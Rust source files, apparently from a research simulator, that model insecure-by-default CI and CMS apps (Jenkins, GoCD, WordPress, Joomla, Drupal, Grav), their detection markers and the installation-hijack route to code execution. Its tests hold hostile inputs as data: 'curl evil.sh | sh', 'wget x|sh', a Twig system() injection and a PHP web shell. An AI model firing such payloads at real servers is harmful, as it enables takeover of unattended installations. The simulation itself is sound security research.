        let out = DRIVER.post(&mut app, "/script", "println 'id'.execute().text");
        assert_eq!(out.events.len(), 1);
        assert!(
            matches!(&out.events[0], AppEvent::CommandExecuted { command } if command.contains("id"))
        );
    }

    #[test]
    fn script_console_is_walled_when_secure() {
        let mut app = at((2, 0, 0), false);
        let out = DRIVER.post(&mut app, "/script", "whoami");
        assert!(out.events.is_empty());
        assert!(out.response.is_followable_redirect());
    }

    #[test]
    fn create_item_emits_build_execution() {
        let mut app = at((1, 500, 0), false);
        let out = app.handle(
            &Request::post(
                "/createItem?name=pwn",
                "curl evil.sh | sh".as_bytes().to_vec(),
            ),
            std::net::Ipv4Addr::new(203, 0, 113, 9),
        );
        assert!(matches!(
            &out.events[0],
            AppEvent::CommandExecuted { command } if command.contains("curl evil.sh")
        ));
        assert_eq!(app.jobs, vec!["pwn"]);
    }

    #[test]
    fn restore_clears_attack_residue() {
        let mut app = at((1, 500, 0), false);
        let _ = DRIVER.post(&mut app, "/createItem?name=x", "payload");
        assert!(!app.jobs.is_empty());
        app.restore();
        assert!(app.jobs.is_empty());
    }

    #[test]
    fn dashboard_carries_version_header_and_markers() {
        let mut app = at((2, 0, 0), false);
        let out = DRIVER.get(&mut app, "/");
        assert!(out.response.headers.get("x-jenkins").is_some());
        assert!(out.response.body_text().contains("Dashboard [Jenkins]"));
        assert!(out.response.body_text().contains("jenkins-head-icon"));
    }
}
