//! GoCD model.
//!
//! * "A newly installed GoCD server does not require users to
//!   authenticate" — insecure by default, with a documentation warning.
//! * Detection: `GET /go/home` must contain one of several
//!   version-dependent marker pairs ('Create a pipeline - Go' +
//!   'pipelines-page', 'Add Pipeline' + 'admin_pipelines', ...).
//! * Abuse surface: pipeline creation — build tasks execute arbitrary
//!   commands on agents.

use crate::base::{impl_webapp, BaseApp};
use crate::catalog::AppId;
use crate::config::AppConfig;
use crate::events::{AppEvent, HandleOutcome};
use crate::html;
use crate::version::Version;
use nokeys_http::{Request, Response};
use std::net::Ipv4Addr;

#[derive(Debug, Clone)]
pub struct Gocd {
    pub(crate) base: BaseApp,
    pipelines: Vec<String>,
}

impl Gocd {
    pub fn new(version: Version, config: AppConfig) -> Self {
        Gocd {
            base: BaseApp::new(AppId::Gocd, version, config),
            pipelines: Vec::new(),
        }
    }

    /// Older GoCD UIs used different home-page markers; the plugin checks
    /// all variants. We serve a variant chosen by major version.
    fn home_page(&self) -> Response {
        let body = if self.base.version.major >= 20 {
            // Newer: dashboard variant.
            "<div class=\"pipelines-page\"><h1>Create a pipeline - Go</h1>\
             <a href=\"/go/admin/pipelines\">admin</a></div>"
                .to_string()
        } else if self.base.version.major >= 18 {
            "<div id=\"admin_pipelines\"><h1>Add Pipeline</h1></div>".to_string()
        } else {
            "<div><h1>Pipelines - Go</h1><a href=\"/go/admin/pipelines\">conf</a></div>".to_string()
        };
        Response::html(html::page_with_head(
            "GoCD",
            &html::css("/static/style.css"),
            &format!("{body}<!-- cruise gocd -->"),
        ))
    }

    fn route(&mut self, req: &Request, _peer: Ipv4Addr) -> HandleOutcome {
        let open = !self.base.config.auth_enabled;
        match (req.method, req.path()) {
            (nokeys_http::Method::Get, "/") => Response::redirect("/go/home").into(),
            (nokeys_http::Method::Get, "/go/home") => {
                if open {
                    self.home_page().into()
                } else {
                    Response::redirect("/go/auth/login").into()
                }
            }
            (nokeys_http::Method::Get, "/go/auth/login") => {
                Response::html(html::login_form("GoCD", "/go/auth/security_check")).into()
            }
            (nokeys_http::Method::Post, "/go/api/admin/pipelines") => {
                if open {
                    let payload = req.body_text();
                    self.pipelines.push(payload.clone());
                    HandleOutcome::with_event(
                        Response::json("{\"name\":\"pipeline\"}"),
                        AppEvent::CommandExecuted {
                            command: format!("gocd-task:{payload}"),
                        },
                    )
                } else {
                    Response::unauthorized("GoCD").into()
                }
            }
            _ => Response::not_found().into(),
        }
    }

    fn reset_state(&mut self) {
        self.pipelines.clear();
    }
}

impl_webapp!(Gocd);

#[cfg(test)]
mod tests {
    use super::*;
    use crate::traits::{Driver, WebApp};
    use crate::version::release_history;
    const DRIVER: Driver = Driver::new();

    fn default_latest() -> Gocd {
        let v = *release_history(AppId::Gocd).last().unwrap();
        Gocd::new(v, AppConfig::default_for(AppId::Gocd, &v))
    }

    #[test]
    fn insecure_by_default() {
        let mut app = default_latest();
        assert!(app.is_vulnerable());
        let out = DRIVER.get(&mut app, "/go/home");
        let body = out.response.body_text();
        assert!(
            body.contains("Create a pipeline - Go") && body.contains("pipelines-page"),
            "{body}"
        );
    }

    #[test]
    fn old_versions_serve_old_markers() {
        let h = release_history(AppId::Gocd);
        let old = h[0];
        let mut app = Gocd::new(old, AppConfig::default_for(AppId::Gocd, &old));
        let body = DRIVER.get(&mut app, "/go/home").response.body_text();
        assert!(
            body.contains("Pipelines - Go") || body.contains("Add Pipeline"),
            "{body}"
        );
    }

    #[test]
    fn secured_instance_redirects_home() {
        let v = *release_history(AppId::Gocd).last().unwrap();
        let mut app = Gocd::new(v, AppConfig::secure_for(AppId::Gocd, &v));
        let out = DRIVER.get(&mut app, "/go/home");
        assert_eq!(out.response.location(), Some("/go/auth/login"));
        let out = DRIVER.post(&mut app, "/go/api/admin/pipelines", "{}");
        assert_eq!(out.response.status.as_u16(), 401);
        assert!(out.events.is_empty());
    }

    #[test]
    fn pipeline_creation_executes_commands() {
        let mut app = default_latest();
        let out = DRIVER.post(
            &mut app,
            "/go/api/admin/pipelines",
            "{\"tasks\":[\"wget x|sh\"]}",
        );
        assert!(matches!(
            &out.events[0],
            AppEvent::CommandExecuted { command } if command.contains("wget x|sh")
        ));
    }

    #[test]
    fn root_redirects_to_home() {
        let mut app = default_latest();
        assert_eq!(
            DRIVER.get(&mut app, "/").response.location(),
            Some("/go/home")
        );
    }
}
