//! Continuous-integration systems: Jenkins, GoCD (in scope); Gitlab,
//! Drone, Travis (out of scope, modeled by [`crate::generic::LoginWalled`]).

pub mod gocd;
pub mod jenkins;

pub use gocd::Gocd;
pub use jenkins::Jenkins;
