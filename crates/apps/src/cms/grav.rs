//! Grav model.
//!
//! * With the admin plugin installed but no user accounts, the first
//!   visitor creates the admin account.
//! * Detection: `GET /` contains 'The Admin plugin has been installed'
//!   and 'Create User', or `GET /admin` contains 'No user accounts found'
//!   and 'create one'.
//! * Post-hijack code execution: Twig template editing through the admin.

use crate::base::{impl_webapp, BaseApp};
use crate::catalog::AppId;
use crate::config::AppConfig;
use crate::events::{AppEvent, HandleOutcome};
use crate::html;
use crate::version::Version;
use nokeys_http::{Request, Response};
use std::net::Ipv4Addr;

#[derive(Debug, Clone)]
pub struct Grav {
    pub(crate) base: BaseApp,
    admin_ip: Option<Ipv4Addr>,
}

impl Grav {
    pub fn new(version: Version, config: AppConfig) -> Self {
        Grav {
            base: BaseApp::new(AppId::Grav, version, config),
            admin_ip: None,
        }
    }

    fn head_extra(&self) -> String {
        format!(
            "{}\n{}",
            html::generator(&format!("GravCMS {}", self.base.version.number())),
            html::css("/user/themes/quark/css/theme.css"),
        )
    }

    fn route(&mut self, req: &Request, peer: Ipv4Addr) -> HandleOutcome {
        let installed = self.base.config.installed;
        match (req.method, req.path()) {
            (nokeys_http::Method::Get, "/") => {
                if installed {
                    Response::html(html::page_with_head(
                        "Grav",
                        &self.head_extra(),
                        "<div class=\"grav-core\">Powered by Grav - \
                         <a href=\"https://getgrav.org\">getgrav.org</a></div>",
                    ))
                    .into()
                } else {
                    Response::html(html::page_with_head(
                        "Grav",
                        &self.head_extra(),
                        "<div class=\"grav-core\">The Admin plugin has been installed. \
                         <a href=\"/admin\">Create User</a> — Powered by Grav</div>",
                    ))
                    .into()
                }
            }
            (nokeys_http::Method::Get, "/admin") => {
                if installed {
                    Response::html(html::login_form("Grav", "/admin/login")).into()
                } else {
                    Response::html(html::page_with_head(
                        "Grav Admin",
                        &self.head_extra(),
                        "<p>No user accounts found, please <a href=\"#create\">create one</a>.</p>\
                         <form method=\"post\" action=\"/admin\">\
                         <input name=\"username\"><input name=\"password\" type=\"password\">\
                         </form>",
                    ))
                    .into()
                }
            }
            (nokeys_http::Method::Post, "/admin") => {
                if installed {
                    return Response::unauthorized("Grav").into();
                }
                let user = req
                    .body_text()
                    .split('&')
                    .find_map(|kv| kv.strip_prefix("username=").map(str::to_string))
                    .unwrap_or_else(|| "admin".to_string());
                self.base.config.installed = true;
                self.admin_ip = Some(peer);
                HandleOutcome::with_event(
                    Response::redirect("/admin"),
                    AppEvent::InstallCompleted { admin_user: user },
                )
            }
            (nokeys_http::Method::Post, "/admin/tools/direct-install")
            | (nokeys_http::Method::Post, "/admin/config/system") => {
                if installed && self.admin_ip == Some(peer) {
                    HandleOutcome::with_event(
                        Response::json("{\"status\":\"success\"}"),
                        AppEvent::CommandExecuted {
                            command: format!("twig:{}", req.body_text()),
                        },
                    )
                } else {
                    Response::unauthorized("Grav").into()
                }
            }
            _ => Response::not_found().into(),
        }
    }

    fn reset_state(&mut self) {
        self.admin_ip = None;
    }
}

impl_webapp!(Grav);

#[cfg(test)]
mod tests {
    use super::*;
    use crate::traits::{Driver, WebApp};
    use crate::version::release_history;
    const DRIVER: Driver = Driver::new();

    fn fresh() -> Grav {
        let v = *release_history(AppId::Grav).last().unwrap();
        Grav::new(v, AppConfig::default_for(AppId::Grav, &v))
    }

    #[test]
    fn fresh_root_advertises_account_creation() {
        let mut app = fresh();
        assert!(app.is_vulnerable());
        let body = DRIVER.get(&mut app, "/").response.body_text();
        assert!(body.contains("The Admin plugin has been installed"));
        assert!(body.contains("Create User"));
    }

    #[test]
    fn fresh_admin_page_has_fallback_markers() {
        let mut app = fresh();
        let body = DRIVER.get(&mut app, "/admin").response.body_text();
        assert!(body.contains("No user accounts found"));
        assert!(body.contains("create one"));
    }

    #[test]
    fn hijack_creates_admin_and_enables_exec() {
        let mut app = fresh();
        let evil = Ipv4Addr::new(203, 0, 113, 5);
        let out = app.handle(&Request::post("/admin", "username=evil&password=x"), evil);
        assert!(matches!(&out.events[0], AppEvent::InstallCompleted { .. }));
        assert!(!app.is_vulnerable());
        let out = app.handle(
            &Request::post("/admin/config/system", "{{ system('id') }}"),
            evil,
        );
        assert!(matches!(&out.events[0], AppEvent::CommandExecuted { .. }));
    }

    #[test]
    fn installed_site_shows_login_not_creation() {
        let v = *release_history(AppId::Grav).last().unwrap();
        let mut app = Grav::new(v, AppConfig::secure_for(AppId::Grav, &v));
        let body = DRIVER.get(&mut app, "/admin").response.body_text();
        assert!(!body.contains("No user accounts found"));
        assert!(body.contains("Sign in"));
        let body = DRIVER.get(&mut app, "/").response.body_text();
        assert!(body.contains("Powered by Grav"));
        assert!(!body.contains("Create User"));
    }
}
