//! Content management systems: WordPress, Grav, Joomla, Drupal (in
//! scope); Ghost (out of scope, modeled by
//! [`crate::generic::LoginWalled`]).
//!
//! All four in-scope CMSes share the *installation hijack* attack vector:
//! the first visitor of an unfinished installation chooses the admin
//! credentials and can subsequently execute code by editing PHP templates
//! or uploading extensions.

pub mod drupal;
pub mod grav;
pub mod joomla;
pub mod wordpress;

pub use drupal::Drupal;
pub use grav::Grav;
pub use joomla::Joomla;
pub use wordpress::WordPress;
