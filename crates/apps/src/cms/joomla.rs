//! Joomla model.
//!
//! * Unfinished installations can be hijacked. Since 3.7.4 the installer
//!   demands proof of server ownership (deleting a file with a random
//!   name) when connecting to a remote database, defeating remote
//!   hijacks.
//! * Detection: `GET /installation/index.php` contains 'Joomla! Web
//!   Installer' or 'Enter the name of your Joomla! site'.

use crate::base::{impl_webapp, BaseApp};
use crate::catalog::AppId;
use crate::config::AppConfig;
use crate::events::{AppEvent, HandleOutcome};
use crate::html;
use crate::version::Version;
use nokeys_http::{Request, Response};
use std::net::Ipv4Addr;

#[derive(Debug, Clone)]
pub struct Joomla {
    pub(crate) base: BaseApp,
    admin_ip: Option<Ipv4Addr>,
}

impl Joomla {
    pub fn new(version: Version, config: AppConfig) -> Self {
        Joomla {
            base: BaseApp::new(AppId::Joomla, version, config),
            admin_ip: None,
        }
    }

    fn has_ownership_countermeasure(&self) -> bool {
        self.base.version.triple() >= (3, 7, 4)
    }

    fn head_extra(&self) -> String {
        format!(
            "{}\n{}",
            html::generator("Joomla! - Open Source Content Management"),
            html::css("/media/jui/css/bootstrap.min.css"),
        )
    }

    fn route(&mut self, req: &Request, peer: Ipv4Addr) -> HandleOutcome {
        let installed = self.base.config.installed;
        match (req.method, req.path()) {
            (nokeys_http::Method::Get, "/") => {
                if installed {
                    Response::html(html::page_with_head(
                        "Home",
                        &self.head_extra(),
                        "<div class=\"joomla-script-options\">Welcome!</div>\
                         <a href=\"/templates/protostar/\">template</a>",
                    ))
                    .into()
                } else {
                    Response::redirect("/installation/index.php").into()
                }
            }
            (nokeys_http::Method::Get, "/installation/index.php") => {
                if installed {
                    return Response::not_found().into();
                }
                let extra = if self.has_ownership_countermeasure() {
                    "<p>To continue with a remote database, delete the file \
                     <code>_JoomlaRandomName_83c1f.txt</code> from the server.</p>"
                } else {
                    ""
                };
                Response::html(html::page_with_head(
                    "Joomla! Web Installer",
                    &self.head_extra(),
                    &format!(
                        "<h1>Joomla! Web Installer</h1>\
                         <label>Enter the name of your Joomla! site</label>\
                         <form method=\"post\" action=\"/installation/index.php\">\
                         <input name=\"admin_user\"><input name=\"admin_password\"></form>{extra}"
                    ),
                ))
                .into()
            }
            (nokeys_http::Method::Post, "/installation/index.php") => {
                if installed {
                    return Response::not_found().into();
                }
                if self.has_ownership_countermeasure() {
                    // The remote attacker cannot delete the random file.
                    return Response::new(nokeys_http::StatusCode::FORBIDDEN)
                        .with_body(
                            "Installation blocked: ownership verification file still present.",
                        )
                        .into();
                }
                let user = req
                    .body_text()
                    .split('&')
                    .find_map(|kv| kv.strip_prefix("admin_user=").map(str::to_string))
                    .unwrap_or_else(|| "admin".to_string());
                self.base.config.installed = true;
                self.admin_ip = Some(peer);
                HandleOutcome::with_event(
                    Response::html(html::page("Congratulations!", "Joomla! is now installed.")),
                    AppEvent::InstallCompleted { admin_user: user },
                )
            }
            (nokeys_http::Method::Post, "/administrator/index.php") => {
                if installed && self.admin_ip == Some(peer) {
                    HandleOutcome::with_event(
                        Response::html(html::page("Template edited", "Saved.")),
                        AppEvent::CommandExecuted {
                            command: format!("php:{}", req.body_text()),
                        },
                    )
                } else {
                    Response::html(html::login_form("Joomla", "/administrator/index.php")).into()
                }
            }
            _ => Response::not_found().into(),
        }
    }

    fn reset_state(&mut self) {
        self.admin_ip = None;
    }
}

impl_webapp!(Joomla);

#[cfg(test)]
mod tests {
    use super::*;
    use crate::traits::{Driver, WebApp};
    use crate::version::release_history;
    const DRIVER: Driver = Driver::new();

    fn at(triple: (u16, u16, u16)) -> Joomla {
        let v = *release_history(AppId::Joomla)
            .iter()
            .find(|v| v.triple() == triple)
            .unwrap();
        Joomla::new(v, AppConfig::default_for(AppId::Joomla, &v))
    }

    #[test]
    fn installer_page_has_markers() {
        let mut app = at((3, 6, 0));
        let body = DRIVER
            .get(&mut app, "/installation/index.php")
            .response
            .body_text();
        assert!(body.contains("Joomla! Web Installer"));
        assert!(body.contains("Enter the name of your Joomla! site"));
    }

    #[test]
    fn old_joomla_can_be_hijacked() {
        let mut app = at((3, 6, 0));
        assert!(app.is_vulnerable());
        let out = app.handle(
            &Request::post("/installation/index.php", "admin_user=evil"),
            Ipv4Addr::new(203, 0, 113, 1),
        );
        assert!(matches!(&out.events[0], AppEvent::InstallCompleted { .. }));
    }

    #[test]
    fn countermeasure_blocks_remote_hijack_since_374() {
        let mut app = at((3, 7, 4));
        assert!(!app.is_vulnerable(), "ownership proof defeats the hijack");
        let out = app.handle(
            &Request::post("/installation/index.php", "admin_user=evil"),
            Ipv4Addr::new(203, 0, 113, 1),
        );
        assert!(out.events.is_empty());
        assert_eq!(out.response.status.as_u16(), 403);
        // The installer page itself still renders (and mentions the file).
        let body = DRIVER
            .get(&mut app, "/installation/index.php")
            .response
            .body_text();
        assert!(body.contains("delete the file"));
    }

    #[test]
    fn installed_site_hides_installer() {
        let v = *release_history(AppId::Joomla).last().unwrap();
        let mut app = Joomla::new(v, AppConfig::secure_for(AppId::Joomla, &v));
        assert_eq!(
            DRIVER
                .get(&mut app, "/installation/index.php")
                .response
                .status
                .as_u16(),
            404
        );
        let body = DRIVER.get(&mut app, "/").response.body_text();
        assert!(body.contains("joomla-script-options"));
    }
}
