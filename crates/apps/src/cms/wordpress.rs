//! WordPress model.
//!
//! * The admin password is chosen on a *publicly reachable* installation
//!   page; until installation completes, anyone can take over.
//! * Detection: `GET /wp-admin/install.php?step=1` is valid HTML
//!   containing `WordPress`, a `form#setup` and an `input#pass1`.
//! * Post-hijack code execution: the theme editor accepts PHP.

use crate::base::{impl_webapp, BaseApp};
use crate::catalog::AppId;
use crate::config::AppConfig;
use crate::events::{AppEvent, HandleOutcome};
use crate::html;
use crate::version::Version;
use nokeys_http::{Request, Response};
use std::net::Ipv4Addr;

#[derive(Debug, Clone)]
pub struct WordPress {
    pub(crate) base: BaseApp,
    /// IP that completed the installation (holds the admin credentials).
    admin_ip: Option<Ipv4Addr>,
}

impl WordPress {
    pub fn new(version: Version, config: AppConfig) -> Self {
        WordPress {
            base: BaseApp::new(AppId::WordPress, version, config),
            admin_ip: None,
        }
    }

    fn head_extra(&self) -> String {
        format!(
            "{}\n{}\n<link rel=\"https://api.w.org/\" href=\"/wp-json/\">",
            html::generator(&format!("WordPress {}", self.base.version.number())),
            html::css("/wp-content/themes/twentytwentyone/style.css"),
        )
    }

    fn blog(&self) -> Response {
        Response::html(html::page_with_head(
            "Just another WordPress site",
            &self.head_extra(),
            "<div id=\"content\"><p>Hello world!</p>\
             <script src=\"/wp-includes/js/wp-embed.min.js\"></script>\
             <a href=\"/xmlrpc.php\">rsd</a></div>",
        ))
    }

    fn install_form(&self) -> Response {
        Response::html(html::page_with_head(
            "WordPress &rsaquo; Installation",
            &self.head_extra(),
            "<h1>Welcome to WordPress</h1>\
             <form id=\"setup\" method=\"post\" action=\"install.php?step=2\">\
             <input name=\"weblog_title\">\
             <input name=\"user_name\">\
             <input type=\"password\" id=\"pass1\" name=\"admin_password\">\
             <button>Install WordPress</button></form>",
        ))
    }

    fn route(&mut self, req: &Request, peer: Ipv4Addr) -> HandleOutcome {
        let installed = self.base.config.installed;
        match (req.method, req.path()) {
            (nokeys_http::Method::Get, "/") => {
                if installed {
                    self.blog().into()
                } else {
                    Response::redirect("/wp-admin/install.php?step=1").into()
                }
            }
            (nokeys_http::Method::Get, "/wp-admin/install.php") => {
                if installed {
                    Response::html(html::page(
                        "WordPress &rsaquo; Installation",
                        "<p>WordPress is already installed.</p><a href=\"/wp-login.php\">Log in</a>",
                    ))
                    .into()
                } else {
                    self.install_form().into()
                }
            }
            (nokeys_http::Method::Post, "/wp-admin/install.php") => {
                if installed {
                    return Response::html(html::page("Installed", "Already installed.")).into();
                }
                let user = req
                    .body_text()
                    .split('&')
                    .find_map(|kv| kv.strip_prefix("user_name=").map(str::to_string))
                    .unwrap_or_else(|| "admin".to_string());
                self.base.config.installed = true;
                self.admin_ip = Some(peer);
                HandleOutcome::with_event(
                    Response::html(html::page("Success!", "<h1>Success!</h1>")),
                    AppEvent::InstallCompleted { admin_user: user },
                )
            }
            (nokeys_http::Method::Get, "/wp-login.php") => {
                Response::html(html::login_form("WordPress", "/wp-login.php")).into()
            }
            (nokeys_http::Method::Post, "/wp-admin/theme-editor.php") => {
                // Editing PHP templates is code execution; only the admin
                // (in the hijack scenario: the attacker who completed the
                // installation) can do it.
                if installed && self.admin_ip == Some(peer) {
                    HandleOutcome::with_event(
                        Response::html(html::page("Edit Themes", "File edited successfully.")),
                        AppEvent::CommandExecuted {
                            command: format!("php:{}", req.body_text()),
                        },
                    )
                } else {
                    Response::redirect("/wp-login.php").into()
                }
            }
            (nokeys_http::Method::Get, "/wp-json/") => {
                Response::json(format!(
                    "{{\"name\":\"Just another WordPress site\",\"url\":\"/\",\"namespaces\":[\"wp/v2\"],\"generator\":\"WordPress {}\"}}",
                    self.base.version.number()
                ))
                .into()
            }
            _ => Response::not_found().into(),
        }
    }

    fn reset_state(&mut self) {
        self.admin_ip = None;
    }
}

impl_webapp!(WordPress);

#[cfg(test)]
mod tests {
    use super::*;
    use crate::traits::{Driver, WebApp};
    use crate::version::release_history;
    const DRIVER: Driver = Driver::new();

    fn fresh() -> WordPress {
        let v = *release_history(AppId::WordPress).last().unwrap();
        WordPress::new(v, AppConfig::default_for(AppId::WordPress, &v))
    }

    fn attacker() -> Ipv4Addr {
        Ipv4Addr::new(203, 0, 113, 66)
    }

    #[test]
    fn fresh_install_serves_setup_form() {
        let mut app = fresh();
        assert!(app.is_vulnerable());
        let out = DRIVER.get(&mut app, "/wp-admin/install.php?step=1");
        let body = out.response.body_text();
        assert!(body.contains("WordPress"));
        assert!(body.contains("id=\"setup\""));
        assert!(body.contains("id=\"pass1\""));
    }

    #[test]
    fn root_redirects_to_installer_when_fresh() {
        let mut app = fresh();
        let out = DRIVER.get(&mut app, "/");
        assert_eq!(
            out.response.location(),
            Some("/wp-admin/install.php?step=1")
        );
    }

    #[test]
    fn hijack_then_code_execution() {
        let mut app = fresh();
        let out = app.handle(
            &Request::post(
                "/wp-admin/install.php?step=2",
                "user_name=evil&admin_password=x",
            ),
            attacker(),
        );
        assert!(matches!(
            &out.events[0],
            AppEvent::InstallCompleted { admin_user } if admin_user == "evil"
        ));
        assert!(
            !app.is_vulnerable(),
            "completing the install closes the MAV"
        );

        // The hijacker can now run PHP through the theme editor.
        let out = app.handle(
            &Request::post("/wp-admin/theme-editor.php", "<?php system($_GET['c']); ?>"),
            attacker(),
        );
        assert!(matches!(&out.events[0], AppEvent::CommandExecuted { .. }));

        // Everyone else cannot.
        let out = app.handle(
            &Request::post("/wp-admin/theme-editor.php", "<?php ?>"),
            Ipv4Addr::new(198, 51, 100, 2),
        );
        assert!(out.events.is_empty());
        assert!(out.response.is_followable_redirect());
    }

    #[test]
    fn installed_site_serves_blog_with_markers() {
        let v = *release_history(AppId::WordPress).last().unwrap();
        let mut app = WordPress::new(v, AppConfig::secure_for(AppId::WordPress, &v));
        assert!(!app.is_vulnerable());
        let body = DRIVER.get(&mut app, "/").response.body_text();
        assert!(body.contains("wp-json"));
        assert!(body.contains("wp-content"));
        assert!(body.contains("wp-includes"));
        let body = DRIVER
            .get(&mut app, "/wp-admin/install.php?step=1")
            .response
            .body_text();
        assert!(body.contains("already installed"));
    }

    #[test]
    fn restore_reopens_the_installation() {
        let mut app = fresh();
        let _ = app.handle(
            &Request::post("/wp-admin/install.php?step=2", "user_name=a"),
            attacker(),
        );
        assert!(!app.is_vulnerable());
        app.restore();
        assert!(app.is_vulnerable());
        let out = DRIVER.get(&mut app, "/wp-admin/install.php");
        assert!(out.response.body_text().contains("id=\"setup\""));
    }
}
