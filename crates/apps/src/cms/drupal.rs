//! Drupal model.
//!
//! * Unfinished installations can be hijacked.
//! * Detection: `GET /core/install.php?langcode=en&profile=standard&continue=1`
//!   contains `<li class="is-active">Set up database` — with
//!   version-dependent whitespace, which is why the plugin strips all
//!   whitespace before matching. The model reproduces that quirk.

use crate::base::{impl_webapp, BaseApp};
use crate::catalog::AppId;
use crate::config::AppConfig;
use crate::events::{AppEvent, HandleOutcome};
use crate::html;
use crate::version::Version;
use nokeys_http::{Request, Response};
use std::net::Ipv4Addr;

#[derive(Debug, Clone)]
pub struct Drupal {
    pub(crate) base: BaseApp,
    admin_ip: Option<Ipv4Addr>,
}

impl Drupal {
    pub fn new(version: Version, config: AppConfig) -> Self {
        Drupal {
            base: BaseApp::new(AppId::Drupal, version, config),
            admin_ip: None,
        }
    }

    fn head_extra(&self) -> String {
        format!(
            "{}\n{}",
            html::generator(&format!("Drupal {}", self.base.version.major)),
            html::script("/sites/default/files/js/drupal.js"),
        )
    }

    /// The installer task list. Whitespace placement differs across
    /// versions (the paper explicitly works around this).
    fn installer_tasks(&self) -> String {
        if self.base.version.minor.is_multiple_of(2) {
            "<ol><li class=\"is-active\">Set up database</li>\
             <li>Install site</li></ol>"
                .to_string()
        } else {
            "<ol>\n  <li class=\"is-active\">\n    Set up database\n  </li>\n\
             \x20 <li>Install site</li>\n</ol>"
                .to_string()
        }
    }

    fn route(&mut self, req: &Request, peer: Ipv4Addr) -> HandleOutcome {
        let installed = self.base.config.installed;
        match (req.method, req.path()) {
            (nokeys_http::Method::Get, "/") => {
                if installed {
                    Response::html(html::page_with_head(
                        "Welcome | Drupal site",
                        &self.head_extra(),
                        "<div data-drupal-selector=\"main\">\
                         <script>Drupal.settings = {};</script>Welcome.</div>",
                    ))
                    .into()
                } else {
                    Response::redirect("/core/install.php").into()
                }
            }
            (nokeys_http::Method::Get, "/core/install.php") => {
                if installed {
                    Response::html(html::page(
                        "Drupal already installed",
                        "Drupal is already installed. <a href=\"/user/login\">Log in</a>",
                    ))
                    .into()
                } else {
                    Response::html(html::page_with_head(
                        "Choose profile | Drupal",
                        &self.head_extra(),
                        &format!("<h1>Database configuration</h1>{}", self.installer_tasks()),
                    ))
                    .into()
                }
            }
            (nokeys_http::Method::Post, "/core/install.php") => {
                if installed {
                    return Response::not_found().into();
                }
                let user = req
                    .body_text()
                    .split('&')
                    .find_map(|kv| kv.strip_prefix("account_name=").map(str::to_string))
                    .unwrap_or_else(|| "admin".to_string());
                self.base.config.installed = true;
                self.admin_ip = Some(peer);
                HandleOutcome::with_event(
                    Response::html(html::page("Congratulations", "Drupal installed.")),
                    AppEvent::InstallCompleted { admin_user: user },
                )
            }
            (nokeys_http::Method::Post, "/admin/modules/install") => {
                if installed && self.admin_ip == Some(peer) {
                    HandleOutcome::with_event(
                        Response::html(html::page("Module installed", "Enabled.")),
                        AppEvent::CommandExecuted {
                            command: format!("module:{}", req.body_text()),
                        },
                    )
                } else {
                    Response::unauthorized("Drupal").into()
                }
            }
            (nokeys_http::Method::Get, "/user/login") => {
                Response::html(html::login_form("Drupal", "/user/login")).into()
            }
            _ => Response::not_found().into(),
        }
    }

    fn reset_state(&mut self) {
        self.admin_ip = None;
    }
}

impl_webapp!(Drupal);

#[cfg(test)]
mod tests {
    use super::*;
    use crate::traits::{Driver, WebApp};
    use crate::version::release_history;
    const DRIVER: Driver = Driver::new();

    fn fresh_at(index: usize) -> Drupal {
        let v = release_history(AppId::Drupal)[index];
        Drupal::new(v, AppConfig::default_for(AppId::Drupal, &v))
    }

    #[test]
    fn installer_marker_survives_whitespace_stripping() {
        for idx in [0, 1, 2, 3] {
            let mut app = fresh_at(idx);
            let body = DRIVER
                .get(
                    &mut app,
                    "/core/install.php?langcode=en&profile=standard&continue=1",
                )
                .response
                .body_text();
            let squashed: String = body.chars().filter(|c| !c.is_whitespace()).collect();
            assert!(
                squashed.contains("<liclass=\"is-active\">Setupdatabase"),
                "version index {idx}: {squashed}"
            );
        }
    }

    #[test]
    fn whitespace_actually_varies_between_versions() {
        let mut even = fresh_at(0);
        let mut odd = fresh_at(1);
        let a = DRIVER
            .get(&mut even, "/core/install.php")
            .response
            .body_text();
        let b = DRIVER
            .get(&mut odd, "/core/install.php")
            .response
            .body_text();
        assert_ne!(a, b, "adjacent versions should format differently");
    }

    #[test]
    fn hijack_and_module_execution() {
        let mut app = fresh_at(0);
        assert!(app.is_vulnerable());
        let evil = Ipv4Addr::new(203, 0, 113, 77);
        let out = app.handle(
            &Request::post("/core/install.php", "account_name=evil"),
            evil,
        );
        assert!(matches!(&out.events[0], AppEvent::InstallCompleted { .. }));
        let out = app.handle(
            &Request::post("/admin/modules/install", "evil_module"),
            evil,
        );
        assert!(matches!(&out.events[0], AppEvent::CommandExecuted { .. }));
    }

    #[test]
    fn installed_site_reports_already_installed() {
        let v = *release_history(AppId::Drupal).last().unwrap();
        let mut app = Drupal::new(v, AppConfig::secure_for(AppId::Drupal, &v));
        let body = DRIVER
            .get(&mut app, "/core/install.php")
            .response
            .body_text();
        assert!(body.contains("already installed"));
        let squashed: String = body.chars().filter(|c| !c.is_whitespace()).collect();
        assert!(!squashed.contains("<liclass=\"is-active\">Setupdatabase"));
    }
}
