//! Static-asset corpus for the hash-based version fingerprinter.
//!
//! The paper's fingerprinter builds a knowledge base of hashes of static
//! files (images, scripts, stylesheets) per application version, crawls an
//! unknown host, hashes what it finds and matches against the base.
//!
//! Our models serve a small set of deterministic assets per application.
//! Asset contents change every `CHURN` releases, so consecutive versions
//! share most assets — exactly the property that makes real fingerprinting
//! return version *ranges* that narrow with more assets.

use crate::catalog::AppId;
use crate::version::{release_history, Version};

/// Number of releases an asset's content survives before changing.
/// Different assets use different phases so combinations of assets narrow
/// the version further than single assets can.
const CHURN: [usize; 4] = [1, 2, 4, 8];

/// Relative asset paths every application serves.
pub const ASSET_PATHS: [&str; 4] = [
    "/static/app.js",
    "/static/style.css",
    "/static/vendor.js",
    "/static/logo.svg",
];

/// FNV-1a 64-bit — small, dependency-free, good enough for content
/// equality fingerprints.
pub fn fnv1a(bytes: &[u8]) -> u64 {
    let mut hash: u64 = 0xcbf2_9ce4_8422_2325;
    for &b in bytes {
        hash ^= b as u64;
        hash = hash.wrapping_mul(0x0000_0100_0000_01b3);
    }
    hash
}

/// Index of `version` in its app's release history.
fn version_index(app: AppId, version: &Version) -> usize {
    release_history(app)
        .iter()
        .position(|v| v.triple() == version.triple())
        .expect("version comes from the app's own history")
}

/// Deterministic content of one asset of `app` at `version`.
///
/// The content embeds the app name, the asset path and the asset's content
/// generation, so two different apps or generations never collide.
pub fn asset_content(app: AppId, version: &Version, path: &str) -> Option<String> {
    let slot = ASSET_PATHS.iter().position(|p| *p == path)?;
    let idx = version_index(app, version);
    let generation = idx / CHURN[slot];
    Some(format!(
        "/* {} asset {} generation {} */\n{}\n",
        app.name(),
        path,
        generation,
